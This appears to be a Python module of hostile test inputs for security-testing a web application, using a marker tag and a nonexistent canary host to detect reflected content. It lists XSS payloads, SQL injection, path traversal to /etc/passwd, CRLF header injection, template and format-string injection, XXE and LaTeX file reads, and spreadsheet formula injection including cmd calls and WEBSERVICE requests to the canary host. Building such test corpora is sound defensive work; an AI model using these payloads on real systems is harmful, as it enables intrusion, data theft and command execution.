"""Texts nobody means well with. `MARK` tells our markup from the page's own, `CANARY` our host from others'."""

MARK = "p7q"
"""An element or attribute of this name in an answer is one that we sent."""

CANARY = "canary.invalid"
"""A host that does not exist: whoever wanted to fetch from it was told so by us."""

SPACES = "\u00a0\u2003\u3164"
ZERO_WIDTH = "\u200b\u2060\ufeff\u00ad\u180e"
TURNING = "\u202e\u202d\u2067\u200f"

ECHOES = (
    f"<{MARK}>",
    f'"><{MARK} onload=alert(1)>',
    f"'-alert(1)-'<{MARK}",
    f"</script><script>{MARK}()</script>",
    f'<img src="https://{CANARY}/x.png" {MARK}>',
    f"<svg/onload={MARK}()>",
    f"javascript:{MARK}(1)//<{MARK}>",
    f"{{{{7*7}}}}${{7*7}}<%= 7*7 %><{MARK}>",
    f"--><{MARK}><!--",
    f"]]><{MARK}/>",
    f"![x](https://{CANARY}/x.png)<{MARK}>",
    f"<!--<script>{MARK}()//<{MARK}>",
    f"\uff1c{MARK}\uff1e<{MARK}>",
    f"\\u003c{MARK}\\u003e\\x3c{MARK}>&lt;<{MARK}>",
    f"<math><mtext><table><mglyph><style><{MARK}>",
)
"""What must not come back as it was sent."""

NOISE = (
    "",
    "0",
    "-1",
    "9" * 400,
    "1e309",
    "NaN",
    "null",
    "[object Object]",
    "%",
    "%%",
    "%zz",
    "%u0041",
    "+",
    "~",
    ".",
    "....",
    "~~~~",
    "*",
    "' or 1=1 --",
    "$x",
    "../" * 12 + "etc/passwd",
    "..\\..\\windows\\win.ini",
    "con",
    "__proto__",
    "constructor",
    "\r\nset-cookie: p7q=1\r\n\r\n",
    "a\nb\tc",
    "\x00",
    "\x1b[31m",
    "Ä" * 50,
    "\u202eterces\u202c",
    "\u200b\u2060\ufeff",
    "e\u0301" * 90,
    "\U0001f469\u200d\U0001f33e" * 20,
    "\U000e0041",
    "\ufdd0\uffff",
    "漢字かな",
    "Straße İı ſ ﬀ",
    "(a+)+$" * 20,
    "[" * 500 + "^",
    "_%_\\%" * 30,
    "deadbeef",
    "1" * 8,
    "\ufffe\ufff9x\ufffay\ufffb",
    "\u2066\u2067\u2068" * 60,
    "\ufdfa" * 150,
    "a;b&c=d#e?f",
    "e\u0345\u0390\u1fb7" * 60,
)

RAW = (
    "%00", "%ff%fe", "%c0%af", "%e0%80%af", "%ed%a0%80", "%f8%88%80%80%80", "%2e%2e%2f", "%252e%252e%252f", "%0d%0a",
    "%26lang%3den", "%23", "%0a.%0b",
)  # fmt: skip
"""What only percent-encoding can say: NUL, no UTF-8, overlong forms, a lone surrogate, twice encoded."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "\u200b=1+1",
    "\u2060@SUM(1;2)",
    "\u00a0=cmd|' /C calc'!A0",
    "\ufeff=1+1",
    "\u00ad+1+1",
    "\uff1d1+1",
    f'=HYPERLINK("https://{CANARY}/","x")',
    f'=WEBSERVICE("https://{CANARY}/")',
    "\u200f=1+1",
    "\u2066=1+1\u2069",
    "\ufe0f=1+1",
    "\U000e0020=1+1",
    "\uff20SUM(1;2)",
    "\ufe66cmd|' /C calc'!A0",
    'x";=1+1;"',
    "'=1+1",
    "|cmd",
    "%0A-1+1",
    "=1+1" + "+1" * 120,
)

MARKDOWN = (
    f"![x](https://{CANARY}/x.png)",
    f"[x](https://{CANARY}/)",
    f"<https://{CANARY}/>",
    f"# x\n\n* y\n\n| a | b |\n|---|---|\n| https://{CANARY}/ | ![i](//{CANARY}/i) |",
    ":material/home: :red[x] :streamlit: $x^2$",
    f"**x** _y_ `z` ~~w~~ [r]: //{CANARY}/r",
    f":violet-background[x] :red-badge[x] :small[x] :material/x: [x](javascript:{MARK}())",
    f"[![x](data:image/svg+xml;base64,PHN2Zy8+)](//{CANARY}/) <details open><summary>x</summary></details>",
    "```html\nx\n```\n> y\n1. z\n- [ ] w\n***",
)

CODE = (
    '#read("/etc/passwd")',
    '#eval("1") #image("/etc/passwd") $x$ *a* _b_ @c <d>',
    "\\input{/etc/passwd} \\write18{id} $\\href{x}{y}$",
    "{{ config }} {% raw %} ${7*7} #{7*7}",
    '"; drop table quotes; --',
    "%s %d %n {0} {category} {}",
    '#import "@preview/x:0.1.0": * #include "/etc/passwd" #plugin("x.wasm")',
    "#while true {} #let f(x) = f(x)",
    "]]] ))) }}} *** $$$ ``` /* //",
    "{texts.__class__.__init__.__globals__} {0.__class__!r:>99999999}",
    "@article{x, title={}} }, note={\\input{x}}\\",
    "[x]:*?/'History'",
)

MARKUP = (
    f"<script>{MARK}()</script>",
    f'<img src="https://{CANARY}/x" onerror="{MARK}()">',
    f"</script></style></title></textarea><{MARK} onclick={MARK}()>",
    f'"><a href="javascript:{MARK}()">x</a>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><script href="https://{CANARY}/s.js"/></svg>',
    f'<link rel=stylesheet href="https://{CANARY}/x.css"><style>@import "//{CANARY}/y";</style>',
    f"&lt;script&gt;{MARK}()&lt;/script&gt; &#60;{MARK}&#62;",
    f"]]>--><!-- <{MARK}> \u2028 \u2029",
    f"<!ENTITY x SYSTEM 'file:///etc/passwd'> &x; <{MARK}>",
    f"<!--<script>{MARK}()",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={MARK}()&gt;'>",
    f'<iframe srcdoc="<script>{MARK}()</script>"></iframe><meta http-equiv=refresh content="0;url=//{CANARY}/">',
    f'<form action="//{CANARY}/"><input autofocus onfocus={MARK}()><button formaction="javascript:{MARK}()">x',
    f"<svg><animate onbegin={MARK}() attributeName=x><set onend={MARK}()><foreignObject><{MARK}>",
    f"<base href=//{CANARY}/><a href=x>y</a><details open ontoggle={MARK}()>",
    f'x" style="background:url(//{CANARY}/s)" onmouseover="{MARK}()" y="',
    f"x' style='background:url(//{CANARY}/s)' onmouseover='{MARK}()' y='",
    f"${{{MARK}()}} `${{{MARK}()}}` \\u003cscript\\u003e{MARK}()\\u003c/script\\u003e",
    f"<?xml-stylesheet href='//{CANARY}/x.xsl'?><xsl:include href='//{CANARY}/y'/><{MARK}>",
    f"&#x202e;&NewLine;&colon; <a href='java&Tab;script&colon;{MARK}()'>x</a> &ltp7q&gt",
)

SCRIPTS = (
    f"a{TURNING}b",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd \u0928\u092e\u0938\u094d\u0924\u0947",
    "Z\u0351\u036b\u0343a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 8,
    "x\ud800y",
    "a\u0000b\u000bc\ufffed",
    "\U0001f469\u200d\U0001f33e \U0001f1e9\U0001f1ea \u2764\ufe0f",
    "a\u2028b\u2029c\u0085d",
    "\u0301\u0301b",
    "a\u2066b\u2067c",
    "a\ufff9b\ufffac\ufffb",
    "a\U000e0041\U000e007fb",
    "a\ue000\uf8ff\U000f0000b",
    "a\ufdd0\ufffe\U0001ffffb",
    "\ufdfa\u0bcc\u1b44" * 12,
    "a" + "\u0315\u0489" * 40,
    "a" + "\ufe0f\ufe01\U000e0101" * 20 + "b",
    "\U0001f1e6" * 90,
)

LONG = (
    "w" * 300, "W" * 290 + "\u00ad" * 10, "ÄÖÜ" * 100, "https://" + CANARY + "/" + "a" * 260, "lang " * 60,
    "a\u00a0" * 150, "a\u2011" * 150, "a\u2060b" * 100, "_" * 300, "1\u202f000" * 60, "\u2014" * 300,
    "\ufdfa" * 100, "\u5b57" * 300, "w\u200d" * 150, "(" * 300, "A/" * 150,
)  # fmt: skip

INVISIBLE = (
    ZERO_WIDTH, SPACES, "\u200b", "\u3164" * 10, "\u2800" * 5, "\u115f\u1160", "\u00ad" * 20, "\ufe0f" * 9,
    "\U000e0020\U000e0041", "\u2062\u2063\u2064", "\u17b4\u17b5", "\uffa0", "\U0001d173\U0001d17a",
    "\ufff9\ufffa\ufffb", "\U0001d159", "\u034f" * 5, "\u3000 \u205f", "\u2028\u2029",
)  # fmt: skip
"""Labels that show nothing."""

KINDS = {
    "formulas": FORMULAS,
    "markdown": MARKDOWN,
    "code": CODE,
    "markup": MARKUP,
    "scripts": SCRIPTS,
    "long": LONG,
    "invisible": INVISIBLE,
}
